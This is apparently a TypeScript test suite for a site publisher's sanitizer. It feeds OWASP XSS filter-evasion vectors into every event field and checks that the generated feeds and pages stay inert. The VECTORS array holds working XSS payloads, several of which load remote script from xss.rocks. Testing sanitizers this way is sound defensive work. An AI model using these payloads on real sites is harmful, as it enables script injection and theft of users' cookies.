/**
 * Hostile pages: the vectors of the OWASP XSS Filter Evasion Cheat Sheet in every field that reaches
 * a feed or a page. Each output is read back by real parsers (fast-xml-parser for XML, parse5 for
 * HTML, as a browser or a reader would), and every HTML context must hold nothing live: no element
 * outside the harmless set, no event handler, no style, no URL but http(s), mailto and tel.
 */
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { parse, parseFragment } from 'parse5';
import { build, output, textOf } from '../../helpers';
import type { SourceFile } from '../../../lambda/core/model';

/** From the OWASP XSS Filter Evasion Cheat Sheet, plus breakouts for each output's syntax. */
const VECTORS = [
  `<script>alert('XSS')</script>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<a href="&#14;  javascript:alert('XSS');">Click</a>`,
  `<a href="javascript&colon;alert(1)">colon</a>`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<svg/onload=alert('XSS')>`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">div</DIV>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<TABLE BACKGROUND="javascript:alert('XSS')"><TR><TD>cell`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
  `<![CDATA[<]]>SCRIPT>alert('XSS');<![CDATA[<]]>/SCRIPT>`,
  `]]><script>alert('cdata')</script>`,
  `"><script>alert('attr')</script>`,
  `'><img src=x onerror=alert(1)>`,
  `</textarea><script>alert(1)</script>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
];

/** One event per vector, the vector in every field a feed or page shows (JSON front matter: no quoting to get wrong). */
function hostilePage(vector: string, i: number): SourceFile {
  const data = {
    title: `${vector} ${i}`,
    date: `2027-01-${String((i % 28) + 1).padStart(2, '0')}T18:00:00`,
    summary: vector,
    abstract: `Abstract ${vector}`,
    location: vector,
    address: { street: vector, city: vector, postcode: vector, country: vector },
    tags: [vector, `tag${i}`],
    authors: [vector],
    event: vector,
    event_url: `javascript:alert(${i})`,
    links: [
      { name: vector, url: 'https://ok.example/' },
      { name: 'bad', url: `javascript:alert(${i})` },
    ],
    url_slides: `javascript:alert(${i})`,
  };
  return {
    path: `event/v${i}/index.md`,
    text: `${JSON.stringify(data, null, 2)}\n\nBody ${vector}\n\n[link](javascript:alert(${i}))\n\n${vector}\n`,
  };
}

// Built before each test, not when the file loads: Stryker's per-test coverage then runs every test
// that reads it against a mutant in the build (bench/mutation.md).
let result: ReturnType<typeof build>;
beforeEach(() => {
  result = build(VECTORS.map(hostilePage));
});
const xml = new XMLParser({
  ignoreAttributes: false,
  attributeNamePrefix: '@',
  isArray: (name) => ['item', 'entry', 'category'].includes(name),
});

type Node = {
  nodeName: string;
  tagName?: string;
  attrs?: Array<{ name: string; value: string }>;
  childNodes?: Node[];
  content?: Node;
};

/** Elements calpub's HTML may hold (its own and the sanitizer's allow-list). */
const HARMLESS = new Set([
  'a',
  'abbr',
  'b',
  'strong',
  'i',
  'em',
  'u',
  's',
  'del',
  'ins',
  'mark',
  'small',
  'sub',
  'sup',
  'cite',
  'q',
  'kbd',
  'code',
  'pre',
  'br',
  'hr',
  'p',
  'blockquote',
  'aside',
  'figure',
  'figcaption',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'ul',
  'ol',
  'li',
  'dl',
  'dt',
  'dd',
  'table',
  'thead',
  'tbody',
  'tfoot',
  'tr',
  'th',
  'td',
  'caption',
  'img',
  'time',
  'span',
  'div',
  'section',
  'article',
  'header',
  'footer',
  'nav',
  'main',
  'button',
  'details',
  'summary',
  'label',
  'input',
  'html',
  'head',
  'body',
  'title',
  'meta',
  'link',
  'script',
  'data',
  'base',
]);
const SAFE_URL = /^(https?:|mailto:|tel:|webcal:|#|\/(?!\/)|\.{0,2}\/?[\w-]+)/i;

/** Every live thing in a parsed HTML tree, as readable strings (empty: nothing live). */
/** The site's own scripts, by their URL. */
const isOwnScript = (n: Node) =>
  n.attrs?.some(
    (a) => a.name === 'src' && /^https:\/\/events\.example\.org\/assets\/(calpub|embed)\.js$/.test(a.value),
  ) ?? false;
/** Search-engine data: a JSON-LD block that is only JSON (never run), with no markup inside. */
function isJsonLd(n: Node): boolean {
  if (
    !n.attrs?.some((a) => a.name === 'type' && a.value === 'application/ld+json') ||
    n.attrs.some((a) => a.name === 'src')
  )
    return false;
  const text = (n.childNodes ?? []).map((c) => (c as { value?: string }).value ?? '').join('');
  try {
    JSON.parse(text);
  } catch {
    return false;
  }
  return !/</.test(text) && (n.childNodes ?? []).every((c) => !c.tagName);
}

function liveParts(node: Node, ownScripts = false): string[] {
  const found: string[] = [];
  const visit = (n: Node) => {
    if (n.tagName) {
      if (!HARMLESS.has(n.tagName)) found.push(`<${n.tagName}>`);
      if (n.tagName === 'script' && !(ownScripts && (isOwnScript(n) || isJsonLd(n)))) found.push('<script>');
      if (n.tagName === 'meta' && n.attrs?.some((a) => a.name === 'http-equiv')) found.push('<meta http-equiv>');
      for (const a of n.attrs ?? []) {
        if (/^on/i.test(a.name)) found.push(`${n.tagName}[${a.name}]`);
        if (a.name === 'style' && !ownScripts) found.push(`${n.tagName}[style]`);
        if (
          ['href', 'src', 'background', 'action', 'formaction', 'data'].includes(a.name) &&
          !SAFE_URL.test(a.value.trim())
        )
          found.push(`${n.tagName}[${a.name}=${a.value}]`);
      }
    }
    for (const c of n.childNodes ?? []) visit(c);
    if (n.content) visit(n.content);
  };
  visit(node);
  return found;
}
const liveInFragment = (html: string) => liveParts(parseFragment(html) as unknown as Node);

describe('OWASP XSS vectors in every field', () => {
  it('publishes every hostile page (bad links are left out with a warning, nothing is run)', () => {
    expect(result.published).toHaveLength(VECTORS.length);
  });

  it('rss.xml is well-formed; titles and categories use &#x26;/&#x3C;; every HTML part is inert', () => {
    const text = output(result, 'rss.xml');
    expect(XMLValidator.validate(text)).toBe(true);
    for (const [, inner] of text.matchAll(/<(?:title|category)>(.*?)<\/(?:title|category)>/g))
      expect(inner).not.toMatch(/<|&lt;|&amp;/);
    const items = xml.parse(text).rss.channel.item as Array<Record<string, string>>;
    expect(items).toHaveLength(VECTORS.length);
    for (const item of items) {
      // description is HTML: the plain text, escaped, so a reader shows the vector as text.
      const description = parseFragment(item.description) as unknown as Node;
      expect(liveParts(description)).toEqual([]);
      expect((description.childNodes ?? []).filter((n) => n.tagName && n.tagName !== 'br')).toEqual([]);
      expect(liveInFragment(item['content:encoded'])).toEqual([]);
    }
  });

  it('tag feeds are inert too', () => {
    const tagFeeds = [...result.outputs].filter((o) => /^tags\/.+\/rss\.xml$/.test(o.path));
    expect(tagFeeds.length).toBeGreaterThan(VECTORS.length);
    for (const feed of tagFeeds) {
      const text = textOf(feed);
      expect(XMLValidator.validate(text)).toBe(true);
      for (const item of (xml.parse(text).rss.channel.item ?? []) as Array<Record<string, string>>)
        expect(liveInFragment(item.description)).toEqual([]);
    }
  });

  it('atom.xml is well-formed and its HTML content inert', () => {
    const text = output(result, 'atom.xml');
    expect(XMLValidator.validate(text)).toBe(true);
    const entries = xml.parse(text).feed.entry as Array<{ content: { '#text': string } }>;
    for (const entry of entries) expect(liveInFragment(entry.content['#text'])).toEqual([]);
  });

  it('feed.json content_html is inert, and the text fields hold the vectors as text', () => {
    const feed = JSON.parse(output(result, 'feed.json')) as {
      items: Array<{ title: string; content_html: string; summary: string }>;
    };
    for (const item of feed.items) expect(liveInFragment(item.content_html)).toEqual([]);
    expect(feed.items.map((i) => i.title)).toContain(`${VECTORS[0]} 0`);
  });

  it('schedule.json parses and holds the vectors as text', () => {
    const schedule = JSON.parse(output(result, 'schedule.json')) as { events: Array<{ title: string }> };
    expect(schedule.events.map((e) => e.title)).toContain(`${VECTORS[0]} 0`);
  });

  it('every HTML page is inert', () => {
    const pages = [...result.outputs].filter((o) => o.path.endsWith('.html'));
    expect(pages.length).toBeGreaterThan(VECTORS.length);
    for (const page of pages)
      expect({ page: page.path, live: liveParts(parse(textOf(page)) as unknown as Node, true) }).toEqual({
        page: page.path,
        live: [],
      });
  });
});
